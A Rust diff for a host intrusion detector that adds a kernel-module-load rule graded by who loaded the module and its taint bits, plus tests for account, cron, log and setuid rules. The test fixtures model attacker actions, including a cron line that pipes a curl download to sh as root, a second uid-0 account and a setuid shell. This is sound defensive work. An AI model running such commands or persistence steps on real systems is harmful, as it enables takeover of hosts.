@@ -37,10 +37,12 @@ pub enum FileRule {
     LogsCleared,
     HistoryCleared,
     TimesSetBack,
+    /// A kernel module loaded (a `module_load` record, not a file).
+    ModuleLoaded,
 }
 
 impl FileRule {
-    pub const ALL: [FileRule; 16] = [
+    pub const ALL: [FileRule; 17] = [
         FileRule::AuthorizedKeys,
         FileRule::Account,
         FileRule::Sudoers,
@@ -57,6 +59,7 @@ impl FileRule {
         FileRule::LogsCleared,
         FileRule::HistoryCleared,
         FileRule::TimesSetBack,
+        FileRule::ModuleLoaded,
     ];
 
     pub fn name(self) -> &'static str {
@@ -77,6 +80,7 @@ impl FileRule {
             FileRule::LogsCleared => "logs_cleared",
             FileRule::HistoryCleared => "history_cleared",
             FileRule::TimesSetBack => "times_set_back",
+            FileRule::ModuleLoaded => "kernel_module_loaded",
         }
     }
 
@@ -96,6 +100,7 @@ impl FileRule {
             FileRule::SystemProgram => Watch::SystemPrograms,
             FileRule::KernelModule => Watch::KernelModules,
             FileRule::Setuid
+            | FileRule::ModuleLoaded
             | FileRule::LogsCleared
             | FileRule::HistoryCleared
             | FileRule::TimesSetBack => return None,
@@ -279,6 +284,9 @@ fn empty_create(c: &FileChange) -> bool {
 }
 
 pub fn judge(kind: FileRule, rule: &Rule, r: &Record, lineage: &dyn Lineage) -> Option<Hit> {
+    if kind == FileRule::ModuleLoaded {
+        return module_loaded(rule, r, lineage);
+    }
     let c = change_of(r)?;
     match kind {
         FileRule::Setuid => setuid(rule, r, c, lineage),
@@ -423,4 +431,171 @@ fn times_set_back(rule: &Rule, r: &Record, c: &FileChange, lineage: &dyn Lineage
         ),
         reason: Some(why),
     })
+}
+
+/// The kernel's taint bits for a module from outside the kernel's tree, or unsigned.
+const TAINT_OOT_MODULE: u32 = 1 << 12;
+const TAINT_UNSIGNED_MODULE: u32 = 1 << 13;
+
+fn module_loaded(rule: &Rule, r: &Record, lineage: &dyn Lineage) -> Option<Hit> {
+    let What::Module(m) = &r.what else {
+        return None;
+    };
+    let name = text::lossy(&m.name);
+    let (mut severity, mut why) = match actor(r, lineage) {
+        Actor::Package(p) => (Severity::Info, format!("loaded by a package manager ({p})")),
+        Actor::Tool(t) => (
+            Severity::Medium.min(rule.severity),
+            format!("loaded by {t}"),
+        ),
+        Actor::ByHand(how) => (rule.severity, format!("loaded {how}")),
+        // udev and systemd-modules-load load drivers as hardware and configuration ask
+        Actor::Service => (
+            Severity::Low,
+            "loaded by the system (udev, systemd)".to_owned(),
+        ),
+    };
+    let mut odd = Vec::new();
+    if m.taints & TAINT_OOT_MODULE != 0 {
+        odd.push("built outside the kernel's tree");
+    }
+    if m.taints & TAINT_UNSIGNED_MODULE != 0 {
+        odd.push("unsigned");
+    }
+    if !odd.is_empty() {
+        severity = severity.max(Severity::High);
+        why = format!("{why}; the module is {}", odd.join(" and "));
+    }
+    Some(Hit {
+        severity,
+        message: format!("kernel module {name} loaded by {}", by(r)),
+        reason: Some(why),
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use std::path::PathBuf;
+
+    use crate::{
+        detect::{
+            alerts::{tests::record, Alerts},
+            lineage::Unknown,
+            rules::Rules,
+        },
+        files::{Action, FileChange, Stat, Watch},
+        pipeline::record::What,
+    };
+
+    fn change(action: Action, path: &str, watch: Watch) -> FileChange {
+        let mut c = FileChange::new(action, PathBuf::from(path), watch);
+        c.stat = Some(Stat {
+            mode: libc::S_IFREG | 0o644,
+            uid: 0,
+            gid: 0,
+            size: 10,
+            mtime: 0,
+            ctime: 0,
+            inode: 1,
+            device: 1,
+        });
+        c
+    }
+
+    /// (rule, severity) of what `exe` doing `c` raises.
+    fn raised(c: FileChange, exe: &str) -> Vec<(String, &'static str)> {
+        let name = exe.rsplit('/').next().unwrap_or(exe);
+        let r = record(What::File(Box::new(c)), exe, &[name]);
+        let mut a = Alerts::new(Rules::built_in().unwrap(), None);
+        a.observe(&r, std::time::Duration::ZERO, &Unknown)
+            .into_iter()
+            .map(|a| (a.rule.name.clone(), a.severity.name()))
+            .collect()
+    }
+
+    #[test]
+    fn severity_follows_who_made_the_change() {
+        let keys = || {
+            change(
+                Action::Write,
+                "/home/a/.ssh/authorized_keys",
+                Watch::AuthorizedKeys,
+            )
+        };
+        let rule = "authorized_keys_changed".to_owned();
+        assert_eq!(raised(keys(), "/usr/bin/dpkg"), [(rule.clone(), "info")]);
+        assert_eq!(
+            raised(keys(), "/usr/bin/ssh-copy-id"),
+            [(rule.clone(), "medium")]
+        );
+        // no login and no tool: a service or a job, medium
+        assert_eq!(raised(keys(), "/usr/bin/python3"), [(rule, "medium")]);
+        let mut passwd = change(Action::Rename, "/etc/passwd", Watch::Accounts);
+        assert_eq!(
+            raised(passwd.clone(), "/usr/bin/passwd"),
+            [("account_changed".to_owned(), "low")]
+        );
+        // whoever does it, a second uid 0 is high
+        passwd.uid0_accounts = vec!["toor".into()];
+        assert_eq!(
+            raised(passwd, "/usr/sbin/useradd"),
+            [("account_changed".to_owned(), "high")]
+        );
+        let mut cron = change(Action::Create, "/etc/cron.d/x", Watch::Cron);
+        cron.hostile = vec!["a download (curl): * * * * * root curl x | sh".into()];
+        assert_eq!(
+            raised(cron, "/usr/bin/crontab"),
+            [("cron_changed".to_owned(), "high")]
+        );
+    }
+
+    #[test]
+    fn an_empty_create_waits_for_its_write_and_a_new_program_is_an_install() {
+        let mut empty = change(Action::Create, "/etc/cron.d/x", Watch::Cron);
+        if let Some(s) = &mut empty.stat {
+            s.size = 0;
+        }
+        assert!(raised(empty, "/bin/bash").is_empty());
+        let new_program = change(Action::Create, "/usr/local/bin/tool", Watch::SystemPrograms);
+        assert!(raised(new_program, "/usr/bin/install").is_empty());
+        let replaced = change(Action::Write, "/usr/bin/ls", Watch::SystemPrograms);
+        assert_eq!(
+            raised(replaced, "/usr/bin/cp"),
+            [("system_program_replaced".to_owned(), "medium")]
+        );
+    }
+
+    #[test]
+    fn logs_kept_by_their_keepers_are_not_cleared() {
+        let t = || change(Action::Truncate, "/var/log/auth.log", Watch::Logs);
+        assert!(raised(t(), "/usr/sbin/logrotate").is_empty());
+        assert_eq!(
+            raised(t(), "/usr/bin/truncate"),
+            [("logs_cleared".to_owned(), "medium")]
+        );
+        let mut appended = change(Action::Write, "/var/log/auth.log", Watch::Logs);
+        appended.appended = true;
+        assert!(raised(appended, "/usr/bin/logger").is_empty());
+        let history = change(Action::Delete, "/root/.bash_history", Watch::History);
+        assert_eq!(
+            raised(history, "/bin/rm"),
+            [("history_cleared".to_owned(), "medium")]
+        );
+    }
+
+    #[test]
+    fn a_setuid_shell_is_high_wherever_it_is_and_whoever_made_it() {
+        let mut c = change(Action::Chmod, "/var/tmp/x/sh", Watch::Elsewhere);
+        c.stat = c.stat.map(|s| Stat {
+            mode: libc::S_IFREG | 0o4755,
+            ..s
+        });
+        assert_eq!(
+            raised(c.clone(), "/bin/chmod"),
+            [("setuid_set".to_owned(), "high")]
+        );
+        // a bit it already had is no news
+        c.previous = c.stat;
+        assert!(raised(c, "/bin/chmod").is_empty());
+    }
 }
